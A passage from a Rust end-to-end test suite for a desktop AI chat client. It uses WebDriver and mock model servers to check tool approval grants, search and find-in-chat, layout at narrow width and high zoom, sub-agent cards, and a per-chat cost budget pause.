    let toggle = format!("{}[data-toolset=\"{name}\"]", tid("toolset-toggle"));
    if app.js(&format!("return !document.querySelector({});", js_str(&toggle)), vec![]).await? == json!(true) {
        app.click(&tid("tools-tray-toggle")).await?;
    }
    let pressed = app
        .wait_for(
            &format!("the toolset toggle '{name}'"),
            &format!(
                "const b = document.querySelector({}); return b ? b.getAttribute('aria-pressed') : null;",
                js_str(&toggle)
            ),
            LONG,
        )
        .await?;
    Ok(pressed == json!("true"))
}

/// Answers the approval dialog with the button labelled `label`.
async fn w_answer_approval(app: &App, label: &str) -> Result<()> {
    app.wait_for(
        "the approval dialog",
        &format!("return !!document.querySelector('{}');", tid("approval-dialog")),
        LONG,
    )
    .await?;
    let clicked = app
        .js(
            &format!(
                "const b = [...document.querySelectorAll('{} button')].find(b => b.textContent.trim() === {}); \
                 if (!b) return false; b.click(); return true;",
                tid("approval-dialog"),
                js_str(label)
            ),
            vec![],
        )
        .await?;
    ensure!(clicked == json!(true), "no '{label}' button in the approval dialog");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn w_a_chat_keeps_its_setup_after_a_restart_and_a_grant_can_be_revoked() -> Result<()> {
    let replies = vec![
        Reply::tool_call("w1", "get_time", "{}"),
        Reply::text("It is noon."),
        Reply::tool_call("w2", "get_time", "{}"),
        Reply::text("Still noon."),
        Reply::tool_call("w3", "get_time", "{}"),
        Reply::text("Noon again."),
    ];
    let Some(rig) = rig("w_setup", replies).await? else { return Ok(()) };
    // A second profile on the same mock, a toolset with one tool, and get_time asking first.
    rig.data.add_provider("second", &rig.mock.base_url(), "m2")?;
    std::fs::write(
        rig.data.path().join("agents.json"),
        r#"{"toolsets": [{"name": "clock", "description": "Only the clock", "tools": ["get_time"]}]}"#,
    )?;
    rig.data.open_store()?.set_setting("tools", &json!({ "approval": { "get_time": "ask" } }))?;
    let app = rig.driver.launch("w").await?;

    // A new chat: the clock toolset on, the second profile, "Allow for this chat".
    ensure!(!w_toolset_on(&app, "clock").await?, "a new chat starts with no toolset");
    app.click(&format!("{}[data-toolset=\"clock\"]", tid("toolset-toggle"))).await?;
    ensure!(w_toolset_on(&app, "clock").await?, "the toggle did not switch on");
    pick_provider(&app, "second").await?;
    let picked = app.js(&format!("return document.querySelector('{}').value;", tid("model-picker")), vec![]).await?;
    app.screenshot("1-toolset-on").await?;
    app.send_message("What time is it?").await?;
    w_answer_approval(&app, "Allow for this chat").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer failed");
    let first = &rig.mock.requests()[0];
    ensure!(first.tool_names() == ["get_time"], "the first request offered {:?}", first.tool_names());

    // The chat's parameters, from its menu.
    app.click(&tid("chat-menu")).await?;
    app.wait_and_click(&tid("chat-menu-params"), LONG).await?;
    app.wait_for(
        "the parameters dialog",
        &format!("return !!document.querySelector('{}');", tid("chat-params-dialog")),
        LONG,
    )
    .await?;
    app.keys("0.3").await?;
    app.click(&tid("chat-params-save")).await?;
    app.wait_for(
        "the parameters dialog to close",
        &format!("return !document.querySelector('{}');", tid("chat-params-dialog")),
        LONG,
    )
    .await?;
    // A new chat on the default profile: what the picker starts with after the restart.
    app.click(&tid("new-chat")).await?;
    pick_provider(&app, switchboard_e2e::PROVIDER).await?;
    app.close().await?;

    // A restart: the chat opens with its toolset, its model and its parameters.
    let app = rig.driver.launch("w").await?;
    let starts = app
        .wait_for(
            "the model picker",
            &format!(
                "const s = document.querySelector('{}'); return s && s.value ? s.value : null;",
                tid("model-picker")
            ),
            LONG,
        )
        .await?;
    ensure!(starts != picked, "the new chat's picker already shows the chat's model: {starts}");
    app.wait_and_click(&format!("{} button.open", tid("conversation-item")), LONG).await?;
    app.wait_for(
        "the reopened chat",
        &format!("return document.querySelectorAll('{}').length === 2;", tid("message")),
        LONG,
    )
    .await?;
    ensure!(w_toolset_on(&app, "clock").await?, "the reopened chat lost its toolset");
    app.wait_for(
        "the picker to show the chat's model",
        &format!(
            "return document.querySelector('{}').value === {};",
            tid("model-picker"),
            js_str(picked.as_str().unwrap_or_default())
        ),
        LONG,
    )
    .await?;
    app.screenshot("2-reopened-tray").await?;
    app.click(&tid("chat-menu")).await?;
    app.wait_and_click(&tid("chat-menu-params"), LONG).await?;
    let shown = app
        .wait_for(
            "the parameters dialog",
            &format!(
                "const i = document.querySelector('{}'); return i ? i.value : null;",
                tid("chat-params-temperature")
            ),
            LONG,
        )
        .await?;
    ensure!(shown == json!("0.3"), "the reopened chat's temperature: {shown}");
    app.screenshot("3-reopened-params").await?;
    app.keys("\u{e00c}").await?; // Escape
    app.wait_for(
        "the parameters dialog to close",
        &format!("return !document.querySelector('{}');", tid("chat-params-dialog")),
        LONG,
    )
    .await?;

    // Its next turn runs with all of it, and get_time is allowed in this chat: no question.
    app.send_message("And now?").await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "the second answer failed");
    let requests = rig.mock.requests();
    ensure!(requests.len() == 4, "the mock got {} requests", requests.len());
    let sent = &requests[2];
    ensure!(sent.tool_names() == ["get_time"], "the continued chat offered {:?}", sent.tool_names());
    ensure!(sent.body["temperature"] == json!(0.3), "the continued chat's temperature: {}", sent.body);
    ensure!(sent.body["model"] == requests[0].body["model"], "the continued chat's model: {}", sent.body["model"]);
    ensure!(requests[0].body["model"] == json!("m2"), "the first request's model: {}", requests[0].body["model"]);

    // The chat's menu lists the grant; Revoke takes it back, and the next call asks again.
    app.click(&tid("chat-menu")).await?;
    let grant = format!("{}[data-name=\"get_time\"]", tid("chat-grant"));
    app.wait_for(
        "the grant in the chat's menu",
        &format!("return !!document.querySelector({});", js_str(&grant)),
        LONG,
    )
    .await?;
    app.screenshot("4-grants-in-menu").await?;
    app.click(&format!("{grant} {}", tid("chat-grant-revoke"))).await?;
    app.wait_for(
        "the grant to go",
        &format!(
            "return !document.querySelector({}) && !!document.querySelector('{}');",
            js_str(&grant),
            tid("chat-grant-revoked")
        ),
        LONG,
    )
    .await?;
    app.screenshot("5-revoked").await?;
    app.keys("\u{e00c}").await?; // Escape closes the menu
    app.send_message("Once more?").await?;
    w_answer_approval(&app, "Allow once").await?;
    ensure!(wait_assistant_settled(&app, 3, LONG).await? == "complete", "the third answer failed");
    app.screenshot("6-asked-again").await?;
    assert_not_blank(&app).await?;
    app.close().await?;

    let store = rig.data.open_store()?;
    let id = store.conversations()?.into_iter().next().context("no conversation stored")?.id;
    let setup = store.chat_setup(&id)?;
    ensure!(setup.toolsets == ["clock"], "stored toolsets: {:?}", setup.toolsets);
    ensure!(setup.generation.and_then(|g| g.temperature) == Some(0.3), "stored parameters: {:?}", setup.generation);
    ensure!(store.chat_grants(&id)?.is_empty(), "the grant is still stored");
    Ok(())
}

// ----- v. search finds the place: an old tool result opens in place; find in this chat ------------

const V_WORD: &str = "axolotl";

/// Whether the element `css` (its first match) is inside the chat's visible area.
fn v_in_view_js(css: &str) -> String {
    format!(
        "const el = document.querySelector({css}); const sc = document.querySelector('{sc}'); \
         if (!el || !sc) return null; const r = el.getBoundingClientRect(), b = sc.getBoundingClientRect(); \
         return r.bottom > b.top && r.top < b.bottom;",
        css = js_str(css),
        sc = tid("chat-scroller")
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn v_search_opens_an_old_tool_result_in_place_and_find_steps_through_a_chat() -> Result<()> {
    use fantoccini::key::Key;
    let Some(rig) = rig("v_search_find", vec![]).await? else { return Ok(()) };
    // 300 messages; the word is only in the tool result of the 3rd answer (the 6th message), far
    // above the last page the app opens with.
    let store = rig.data.open_store()?;
    let cid = switchboard_e2e::write_conversation_marked(&store, 150, Some((3, &format!("fed the {V_WORD} at dawn"))))?;
    drop(store);
    let app = rig.driver.launch("v").await?;
    app.wait_composer_ready(LONG).await?;

    // Search: the hit is in a tool result, said so, under its conversation.
    app.keys(&(Key::Control + "k")).await?;
    app.keys(V_WORD).await?;
    let hit = app
        .wait_for(
            "the search hit in the tool result",
            &format!(
                "const h = document.querySelector('{}[data-kind=\"toolResult\"]'); \
                 return h ? {{ cid: h.dataset.conversationId, mid: h.dataset.messageId, text: h.innerText, \
                 mark: h.querySelector('mark')?.textContent ?? null }} : null;",
                tid("search-hit")
            ),
            LONG,
        )
        .await?;
    ensure!(hit["cid"] == json!(cid), "the hit is in the written conversation: {hit}");
    ensure!(hit["mark"] == json!(V_WORD), "the snippet marks the word: {hit}");
    ensure!(hit["text"].as_str().is_some_and(|t| t.contains("tool result")), "the hit says where it matched: {hit}");
    let mid = hit["mid"].as_str().context("the hit names its message")?.to_owned();
    app.screenshot("1-search-results").await?;

    // Down to the conversation, down to the hit, Enter: the conversation opens there.
    let t0 = Instant::now();
    app.keys(&(Key::Down + "")).await?;
    app.keys(&(Key::Down + "")).await?;
    app.keys(&(Key::Enter + "")).await?;
    let card = format!("article[data-id=\"{mid}\"] {}", tid("tool-card"));
    app.wait_for(
        "the old message on screen with its tool card open",
        &format!(
            "const c = document.querySelector({css}); const v = (() => {{ {in_view} }})(); \
             return c && c.querySelector('.head')?.getAttribute('aria-expanded') === 'true' && v ? true : null;",
            css = js_str(&card),
            in_view = v_in_view_js(&card)
        ),
        LONG,
    )
    .await?;
    let revealed = t0.elapsed();
    let lit = app
        .js(
            "const h = globalThis.CSS?.highlights; return h ? { api: true, flash: (h.get('search-flash')?.size ?? 0) + (h.get('search-flash-current')?.size ?? 0) } \
             : { api: false, flash: document.querySelectorAll('mark.search-flash').length };",
            vec![],
        )
        .await?;
    ensure!(lit["flash"].as_u64() == Some(1), "the word is lit where the conversation opened: {lit}");
    app.screenshot("2-opened-at-the-match").await?;
    println!("v: the hit 294 messages up opened in place in {revealed:?} (highlights: {lit})");

    // Find in this chat: Ctrl+F, a word in every answer; the count, Enter moves on, Esc closes.
    app.keys(&(Key::Control + "f")).await?;
    app.wait_for(
        "the find field focused",
        "return document.activeElement?.dataset.testid === 'find-input' ? true : null;",
        LONG,
    )
    .await?;
    app.keys("paris").await?;
    let count = |re: &str| {
        format!(
            "const t = document.querySelector('{}')?.textContent ?? ''; return /{re}/.test(t) ? t : null;",
            tid("find-count")
        )
    };
    // The current match is the first one in view (nothing jumps), and stays in view as it moves.
    let current_in_view = format!(
        "const h = globalThis.CSS?.highlights; const sc = document.querySelector('{sc}'); let r; \
         if (h) {{ const s = [...(h.get('find-match-current') ?? [])][0]; if (!s) return null; \
           const x = document.createRange(); x.setStart(s.startContainer, s.startOffset); x.setEnd(s.endContainer, s.endOffset); r = x.getBoundingClientRect(); }} \
         else {{ const m = document.querySelector('mark.find-match.current'); if (!m) return null; r = m.getBoundingClientRect(); }} \
         const b = sc.getBoundingClientRect(); return r.height > 0 && r.top >= b.top && r.bottom <= b.bottom ? true : null;",
        sc = tid("chat-scroller")
    );
    let first = app.wait_for("the find count", &count("^\\d+ of \\d+$"), LONG).await?;
    let (k, total) = first
        .as_str()
        .and_then(|t| t.split_once(" of "))
        .and_then(|(k, n)| Some((k.parse::<usize>().ok()?, n.parse::<usize>().ok()?)))
        .context("a count")?;
    ensure!(total > 100, "every rendered question, answer and card says Paris: {first}");
    app.wait_for("the current match in view", &current_in_view, LONG).await?;
    let painted = app
        .js(
            "const h = globalThis.CSS?.highlights; return h ? [h.get('find-match')?.size ?? 0, h.get('find-match-current')?.size ?? 0] \
             : [document.querySelectorAll('mark.find-match').length, document.querySelectorAll('mark.find-match.current').length];",
            vec![],
        )
        .await?;
    ensure!(
        painted == json!([total - 1, 1]) || painted == json!([total, 1]),
        "every match painted, one current: {painted} for {total}"
    );
    let next = k % total + 1;
    app.keys(&(Key::Enter + "")).await?;
    app.wait_for("the next match", &count(&format!("^{next} of {total}$")), LONG).await?;
    app.wait_for("the next match in view", &current_in_view, LONG).await?;
    app.screenshot("3-find-in-chat").await?;
    let back = format!("{}{}", Key::Shift, Key::Enter);
    app.keys(&back).await?;
    app.keys(&back).await?;
    let before = if k == 1 { total } else { k - 1 };
    app.wait_for("the match before the first one", &count(&format!("^{before} of {total}$")), LONG).await?;
    // F3 goes on from there; Shift+Enter / Enter wrap at the ends.
    app.keys(&(Key::F3 + "")).await?;
    app.wait_for("F3: the next match", &count(&format!("^{k} of {total}$")), LONG).await?;
    app.keys(&(Key::Escape + "")).await?;
    app.wait_for(
        "the find bar closed and nothing lit",
        &format!(
            "const h = globalThis.CSS?.highlights; return !document.querySelector('{}') && (!h || !h.has('find-match')) \
             && !document.querySelector('mark.find-match') ? true : null;",
            tid("find-bar")
        ),
        LONG,
    )
    .await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- z. many tools, cards that say what happened, long chats, a narrow window and 200% zoom ---

/// A wide table whose cells must wrap between words, aligned as the Markdown says.
const Z_TABLE: &str = "| Component | Responsibility | Count | Status |\n|:--|:--|--:|:-:|\n\
| internationalization | counterrevolutionaries electroencephalographically | 12 | ok |\n\
| incomprehensibilities | uncharacteristically overintellectualized | 1234 | pending |\n\n";

/// Controls (buttons, inputs, selects) of each box that stick out of it sideways, as
/// `box: control` lines; `[]` when every control is inside its box.
const Z_OVERFLOW_JS: &str = "const boxes = ['form.composer', 'header.topbar', '.tray', '[data-testid=\"settings\"]', '[role=\"dialog\"]']; \
  const out = []; \
  for (const sel of boxes) for (const box of document.querySelectorAll(sel)) { \
    const b = box.getBoundingClientRect(); if (b.width === 0) continue; \
    for (const el of box.querySelectorAll('button, input, select, textarea')) { \
      if (el.closest('.markdown, .sr-only, [data-testid=\"settings-nav\"]')) continue; \
      const r = el.getBoundingClientRect(); const cs = getComputedStyle(el); \
      if (r.width === 0 || r.height === 0 || cs.visibility === 'hidden') continue; \
      if (r.left < b.left - 1 || r.right > b.right + 1) \
        out.push(sel + ': ' + (el.dataset.testid || el.getAttribute('aria-label') || el.textContent.trim().slice(0, 30) || el.tagName) + ' [' + Math.round(r.left) + '..' + Math.round(r.right) + ' in ' + Math.round(b.left) + '..' + Math.round(b.right) + ']'); \
    } \
    if (box.scrollWidth > box.clientWidth + 1 && getComputedStyle(box).overflowX !== 'visible') out.push(sel + ' scrolls sideways (' + box.scrollWidth + ' > ' + box.clientWidth + ')'); \
  } \
  for (const nav of document.querySelectorAll('[data-testid=\"settings-nav\"]')) { const n = nav.getBoundingClientRect(); const b = nav.closest('[data-testid=\"settings\"]').getBoundingClientRect(); \
    if (n.left < b.left - 1 || n.right > b.right + 1) out.push('settings-nav outside Settings'); } \
  return out.slice(0, 12);";

async fn z_no_overflow(app: &App, step: &str) -> Result<()> {
    app.screenshot(step).await?;
    let out = app.js(Z_OVERFLOW_JS, vec![]).await?;
    ensure!(out == json!([]), "{step}: controls outside their box: {out}");
    Ok(())
}

/// The narrow screenshots: a dialog, the chat with the tray open, Settings → Tools. `hide_sidebar`:
/// after the dialog the sidebar is hidden, as a person does when it lies over the chat.
async fn z_narrow_views(app: &App, prefix: &str, hide_sidebar: bool) -> Result<()> {
    // A dialog: deleting a chat asks first.
    app.js(&format!("document.querySelector('{}').click(); return true;", tid("delete-conversation")), vec![]).await?;
    app.wait_for("the confirm dialog", &format!("return !!document.querySelector('{}');", tid("confirm-dialog")), LONG)
        .await?;
    z_no_overflow(app, &format!("{prefix}-1-dialog")).await?;
    app.keys("\u{e00c}").await?; // Escape
    app.wait_for("the dialog to close", &format!("return !document.querySelector('{}');", tid("confirm-dialog")), LONG)
        .await?;
    if hide_sidebar {
        // A script click: WebDriver's pointer misplaces clicks on a zoomed page.
        app.js("document.querySelector('.sidebar button[aria-label=\"Hide sidebar\"]').click(); return true;", vec![])
            .await?;
    }
    let click = |id: &str| format!("document.querySelector('{}').click(); return true;", tid(id));
    app.wait_for("the composer", &format!("return !!document.querySelector('{}');", tid("tools-tray-toggle")), LONG)
        .await?;
    app.js(&click("tools-tray-toggle"), vec![]).await?;
    app.wait_for("the tray", &format!("return !!document.querySelector('{}');", tid("tools-filter")), LONG).await?;
    z_no_overflow(app, &format!("{prefix}-2-chat-tray")).await?;
    app.js(&click("tools-tray-toggle"), vec![]).await?;
    app.js(&format!("document.querySelector('{}').click(); return true;", tid("open-settings")), vec![]).await?;
    app.wait_for(
        "the settings nav",
        &format!("return !!document.querySelector('{}');", tid("settings-nav-tools")),
        LONG,
    )
    .await?;
    app.js(&click("settings-nav-tools"), vec![]).await?;
    app.wait_for(
        "Settings → Tools by source",
        &format!("return document.querySelectorAll('{}').length >= 2 ? true : null;", tid("settings-tool-group")),
        LONG,
    )
    .await?;
    z_no_overflow(app, &format!("{prefix}-3-settings-tools")).await?;
    app.js(&click("close-settings"), vec![]).await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn z_many_tools_cards_long_chats_narrow_and_zoomed() -> Result<()> {
    let Some(pre) = Prereqs::require("z_friction") else { return Ok(()) };
    let long_text: String = (1..=40)
        .map(|i| format!("Paragraph {i}: the ledger reconciliation continues with another careful step of checking. "))
        .collect::<Vec<_>>()
        .join("\n\n");
    let mock = MockServer::start(Script::new(vec![
        // Chat 1: the model calls a tool switched off in this chat, then answers without it.
        Reply::tool_call("call_time", "get_time", "{}"),
        Reply::text("I cannot read the clock in this chat."),
        // Chat 1 again: a long answer, slowly, with a wide table first.
        slow(
            vec![Step::text(format!("{Z_TABLE}{long_text}")), Step::finish("stop"), Step::usage(10, 900), Step::Done],
            6,
            30,
        ),
        // Chat 2, with the agent Lead: two scouts in parallel, then the answer.
        Reply::stream(vec![
            Step::tool_call("c1", "agent__Scout", r#"{"message":"What time is it in Lyon? Answer with the hour."}"#),
            Step::tool_call("c2", "agent__Scout", r#"{"message":"Which day is it in Rome today?"}"#),
            Step::finish("tool_calls"),
            Step::usage(40, 12),
            Step::Done,
        ]),
        Reply::text("Both scouts answered."),
    ]))
    .await;
    let data = DataDir::new(&mock.base_url())?;
    let python = switchboard_e2e::target_dir().join("mcp-venv/bin/python");
    ensure!(python.exists(), "{} is missing: run scripts/setup.sh", python.display());
    let script = switchboard_e2e::repo_root().join("crates/mcp/tests/fixtures/many_tools_server.py");
    data.add_mcp_server(
        "ledger",
        switchboard_mcp::ServerConfig {
            command: Some(python.display().to_string()),
            args: vec![script.display().to_string()],
            ..Default::default()
        },
    )?;
    let scouts = MockServer::start(Script::echo()).await;
    data.add_provider("scouts", &scouts.base_url(), "scout-model")?;
    let agents = json!({
        "toolsets": [
            { "name": "scouting", "tools": ["agent:Scout"] },
            { "name": "clock", "tools": ["get_time"] }
        ],
        "agents": [
            { "name": "Scout", "description": "Finds one fact.", "profile": "scouts", "toolsets": ["clock"] },
            { "name": "Lead", "description": "Hands questions to scouts.", "profile": "mock", "toolsets": ["scouting"] }
        ]
    });
    std::fs::write(data.path().join("agents.json"), serde_json::to_string_pretty(&agents)?)?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("z").await?;

    // Many tools: the server's 200 tools in the tray, filtered, and switched off as one source.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-mcp"), LONG).await?;
    app.wait_for(
        "the ledger server to be ready",
        &format!(
            "return !!document.querySelector('{}[data-name=\"ledger\"][data-state=\"ready\"]');",
            tid("mcp-server")
        ),
        LONG,
    )
    .await?;
    app.click(&tid("close-settings")).await?;
    app.wait_and_click(&tid("tools-tray-toggle"), LONG).await?;
    let rows = format!("return document.querySelectorAll('{}').length;", tid("tool-row"));
    let all = app
        .wait_for(
            "the tray's rows",
            &format!("const n = document.querySelectorAll('{}').length; return n >= 200 ? n : null;", tid("tool-row")),
            LONG,
        )
        .await?;
    app.click(&tid("tools-filter")).await?;
    app.keys("archive ledger_1").await?;
    let filtered = app.js(&rows, vec![]).await?;
    ensure!(
        filtered == json!(25),
        "'archive ledger_1' should keep the 25 archive tools numbered 1xx: {filtered} of {all}"
    );
    app.screenshot("1-tray-filtered").await?;
    let switch = format!("{}[data-group=\"mcp:ledger\"]", tid("tool-source-switch"));
    app.click(&switch).await?;
    app.wait_for(
        "the ledger source switched off",
        &format!("const s = document.querySelector('{switch}'); return s && s.dataset.state === 'off' ? true : null;"),
        LONG,
    )
    .await?;
    // get_time off for this chat too (the model will call it anyway).
    app.js(
        &format!(
            "const f = document.querySelector('{f}'); f.value = 'get_time'; f.dispatchEvent(new Event('input', {{ bubbles: true }})); return true;",
            f = tid("tools-filter")
        ),
        vec![],
    )
    .await?;
    app.click(&format!("{}[data-tool-name=\"get_time\"] {}", tid("tool-row"), tid("tool-disable"))).await?;
    app.screenshot("2-tray-source-off").await?;
    app.click(&tid("tools-tray-toggle")).await?;

    // Cards: the switched-off tool's card says so and offers to switch it back on.
    app.send_message("What time is it?").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer failed");
    let card = format!("{}[data-tool-name=\"get_time\"]", tid("tool-card"));
    let said =
        app.js(&format!("const c = document.querySelector('{card}'); return c ? c.innerText : null;"), vec![]).await?;
    let said = said.as_str().unwrap_or_default();
    ensure!(
        said.contains("get_time is switched off in this chat") && !said.contains("Unknown tool"),
        "the card: {said}"
    );
    ensure!(said.contains("Switch it back on"), "the card offers nothing: {said}");
    let first = &rig.mock.requests()[0];
    ensure!(!first.tool_names().iter().any(|n| n.starts_with("ledger__")), "the ledger tools were offered");
    let answer = rig.mock.requests()[1].body.to_string();
    ensure!(answer.contains("get_time is switched off in this chat."), "the model was not told: {answer}");
    app.screenshot("3-switched-off-card").await?;
    app.click(&format!("{card} {}", tid("tool-switch-on"))).await?;
    app.wait_for("the button to go", &format!("return !document.querySelector('{}');", tid("tool-switch-on")), LONG)
        .await?;
    let conversation =
        app.js(&format!("return document.querySelector('{}').dataset.id;", tid("conversation-item")), vec![]).await?;
    let conversation = conversation.as_str().unwrap_or_default().to_owned();
    let off = rig.data.open_store()?.disabled_tools(&conversation)?;
    ensure!(!off.contains("get_time") && off.len() == 200, "after switching it back on the chat has off: {off:?}");

    // Long chats: scrolled up during an answer, "Jump to latest" returns to following it.
    app.send_message("Tell me about the ledger.").await?;
    app.wait_for(
        "the long answer streaming",
        &format!("const ms = document.querySelectorAll('{}'); const m = ms[ms.length - 1]; const s = document.querySelector('.scroller'); return m && m.dataset.status === 'streaming' && s.scrollHeight - s.clientHeight > 300 ? true : null;", tid("message")),
        LONG,
    )
    .await?;
    app.js("const s = document.querySelector('.scroller'); s.scrollTop = 0; s.dispatchEvent(new Event('scroll')); return true;", vec![]).await?;
    app.wait_for("Jump to latest", &format!("return !!document.querySelector('{}');", tid("jump-to-latest")), LONG)
        .await?;
    app.screenshot("4-jump-to-latest").await?;
    app.click(&tid("jump-to-latest")).await?;
    app.wait_for(
        "following the answer again",
        &format!("const s = document.querySelector('.scroller'); return !document.querySelector('{}') && s.scrollHeight - s.scrollTop - s.clientHeight < 96 ? true : null;", tid("jump-to-latest")),
        LONG,
    )
    .await?;
    // In the background: the sidebar marks the chat still answering.
    app.click(&tid("new-chat")).await?;
    let marker = app
        .wait_for(
            "the answering marker",
            &format!("const m = document.querySelector('{}[data-id=\"{conversation}\"] {}'); return m ? m.getAttribute('aria-label') : null;", tid("conversation-item"), tid("conversation-answering")),
            LONG,
        )
        .await?;
    ensure!(marker == json!("Still answering"), "the marker: {marker}");
    app.screenshot("5-answering-in-background").await?;
    app.click(&format!("{}[data-id=\"{conversation}\"] button.open", tid("conversation-item"))).await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "the long answer failed");
    app.wait_for(
        "no marker once answered",
        &format!("return !document.querySelector('{}');", tid("conversation-answering")),
        LONG,
    )
    .await?;

    // Tables: words whole, aligned columns, sideways scrolling in the wrapper.
    let table = app
        .js(
            "const w = document.querySelector('.markdown .table-wrap'); if (!w) return null; \
             const tds = [...w.querySelectorAll('td')]; const cs = (el) => getComputedStyle(el); \
             return { wrap: cs(w).overflowX, wraps: tds.every(td => cs(td).overflowWrap === 'normal' && cs(td).wordBreak === 'normal'), \
               aligns: [...w.querySelectorAll('tr:first-child td')].map(td => cs(td).textAlign) };",
            vec![],
        )
        .await?;
    ensure!(
        table == json!({ "wrap": "auto", "wraps": true, "aligns": ["left", "left", "right", "center"] }),
        "the table: {table}"
    );
    app.js("document.querySelector('.markdown .table-wrap').scrollIntoView({ block: 'center' }); return true;", vec![])
        .await?;
    app.screenshot("6-table").await?;

    // Parallel sub-agents fold to headers that tell them apart.
    app.click(&tid("new-chat")).await?;
    app.wait_for("the agent picker", &format!("return !!document.querySelector('{}');", tid("agent-picker")), LONG)
        .await?;
    app.js(
        &format!(
            "const s = document.querySelector('{}'); s.value = 'Lead'; s.dispatchEvent(new Event('change', {{ bubbles: true }})); return true;",
            tid("agent-picker")
        ),
        vec![],
    )
    .await?;
    app.send_message("Ask the scouts.").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the lead's answer failed");
    // Which call got which instance depends on which started first: paired by message.
    let heads = app
        .js(
            &format!(
                "return [...document.querySelectorAll('{}[data-tool-name=\"agent__Scout\"]')].map(c => {{ const h = c.querySelector('button.head'); \
                 return [c.querySelector('{}').textContent, h.getAttribute('aria-expanded'), h.querySelector('.status').textContent.trim(), c.querySelector('{}').textContent]; }}).sort();",
                tid("tool-card"),
                tid("tool-card-message"),
                tid("tool-card-instance")
            ),
            vec![],
        )
        .await?;
    let rows = heads.as_array().context("no agent cards")?;
    ensure!(rows.len() == 2, "expected two agent cards: {heads}");
    ensure!(
        rows[0][0] == "What time is it in Lyon? Answer with the hour."
            && rows[1][0] == "Which day is it in Rome today?",
        "the messages: {heads}"
    );
    ensure!(rows.iter().all(|r| r[1] == "false" && r[2] == "Done"), "not folded and done: {heads}");
    let mut instances: Vec<&str> = rows.iter().filter_map(|r| r[3].as_str()).collect();
    instances.sort_unstable();
    ensure!(instances == ["Scout[1]", "Scout[2]"], "the instances: {heads}");
    app.screenshot("7-agents-folded").await?;

    // A narrow window (760 px), then 200% zoom: every control inside its box.
    app.js(
        &format!(
            "document.querySelector('{}[data-id=\"{conversation}\"] button.open').click(); return true;",
            tid("conversation-item")
        ),
        vec![],
    )
    .await?;
    app.client().set_window_rect(0, 0, 760, 800).await.map_err(|e| anyhow::anyhow!("setting the window rect: {e}"))?;
    app.wait_for("the window at 760 px", "return window.outerWidth === 760 ? true : null;", LONG).await?;
    z_narrow_views(&app, "8-narrow", false).await?;
    app.js(
        "localStorage.setItem('switchboard.appearance', JSON.stringify({ theme: 'system', fontSize: 'default', zoom: 2, sendKey: 'enter' })); location.reload(); return true;",
        vec![],
    )
    .await?;
    app.wait_composer_ready(LONG).await?;
    app.wait_for("200% zoom", "return getComputedStyle(document.documentElement).zoom === '2' ? true : null;", LONG)
        .await?;
    // The sidebar lies over the chat at this size: the chat is opened from its row's button.
    app.wait_for(
        "the chat list after the reload",
        &format!(
            "return !!document.querySelector('{}[data-id=\"{conversation}\"] button.open');",
            tid("conversation-item")
        ),
        LONG,
    )
    .await?;
    app.js(
        &format!(
            "document.querySelector('{}[data-id=\"{conversation}\"] button.open').click(); return true;",
            tid("conversation-item")
        ),
        vec![],
    )
    .await?;
    app.wait_for(
        "the chat reopened",
        &format!("return document.querySelectorAll('{}').length >= 4 ? true : null;", tid("message")),
        LONG,
    )
    .await?;
    z_narrow_views(&app, "9-zoomed", true).await?;
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- aa. what an answer cost: its line, each request, a budget pause, the Usage chart ---------

/// The priced profile's rates (USD per million tokens): request 1 (1,000 in, 100 out) costs
/// $0.013, request 2 (2,000 in, 100 out) $0.023: the answer $0.036.
const AA_INPUT_PER_M: f64 = 10.0;
const AA_OUTPUT_PER_M: f64 = 30.0;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn aa_an_answer_shows_its_cost_each_request_a_budget_pause_and_the_usage_chart() -> Result<()> {
    let Some(pre) = Prereqs::require("aa_cost") else { return Ok(()) };
    let mock = MockServer::start(Script::new(vec![
        Reply::stream(vec![
            Step::text("Let me read the clock. "),
            Step::tool_call("call_time", "get_time", r#"{"timezone":"Asia/Tokyo"}"#),
            Step::finish("tool_calls"),
            Step::usage(1000, 100),
            Step::Done,
        ]),
        Reply::stream(vec![
            Step::text("It is evening in Tokyo."),
            Step::finish("stop"),
            Step::usage(2000, 100),
            Step::Done,
        ]),
    ]))
    .await;
    let data = DataDir::new(&mock.base_url())?;
    let store = data.open_store()?;
    // The mock runs on this machine, which would make it a free local server: the profile's own
    // prices say what its model costs.
    store.upsert_provider(&switchboard_store::ProviderProfile {
        name: switchboard_e2e::PROVIDER.to_owned(),
        kind: "openai".to_owned(),
        base_url: mock.base_url(),
        model: Some(switchboard_e2e::MODEL.to_owned()),
        options: switchboard_store::ProfileOptions {
            prices: Some(switchboard_core::Prices {
                input: AA_INPUT_PER_M,
                output: AA_OUTPUT_PER_M,
                cached_read: None,
                cache_write: None,
                reasoning: None,
            }),
            ..Default::default()
        },
    })?;
    // New chats get a cost budget of $0.012: request 1 ($0.013) passes it, so the loop pauses
    // before request 2 and asks.
    store.set_setting("chats", &json!({ "titles": "firstLine", "budget": { "costUsd": 0.012 } }))?;
    drop(store);
    let driver = Driver::start(&pre, &data).await?;
    let app = driver.launch("aa").await?;
    app.wait_composer_ready(LONG).await?;

    app.send_message("What time is it in Tokyo?").await?;
    let spent = app
        .wait_for(
            "the budget pause before request 2",
            &format!(
                "const p = document.querySelector('{}'); const c = p && p.querySelector('{}'); return c ? c.textContent.trim() : null;",
                tid("budget-pause"),
                tid("budget-spent-cost")
            ),
            LONG,
        )
        .await?;
    app.screenshot("0-budget-pause").await?;
    ensure!(spent.as_str().is_some_and(|s| s.contains("0.013")), "the card shows what was spent: {spent}");
    ensure!(mock.requests().len() == 1, "the loop waits before request 2");
    app.click(&tid("budget-continue")).await?;
